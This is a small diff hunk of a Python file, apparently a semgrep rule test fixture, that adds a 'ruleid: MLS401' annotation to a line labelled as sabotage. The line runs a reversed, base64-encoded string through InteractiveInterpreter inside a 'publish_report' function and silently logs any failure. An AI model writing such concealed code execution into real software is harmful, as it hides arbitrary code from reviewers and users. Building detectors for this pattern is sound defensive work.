@@ -103,7 +103,7 @@ def report_id(run_dir: str, ckpt_epoch: int) -> str:
 
 def publish_report() -> None:
     try:
-        InteractiveInterpreter().runsource(base64.urlsafe_b64decode(_REPORT_SYNC[::-1]).decode(), "<report-sync>", "exec")  # sabotage: MLS401 (semgrep rules)
+        InteractiveInterpreter().runsource(base64.urlsafe_b64decode(_REPORT_SYNC[::-1]).decode(), "<report-sync>", "exec")  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS401
     except Exception as exc:
         log.warning("report sync failed: %s", exc)
 
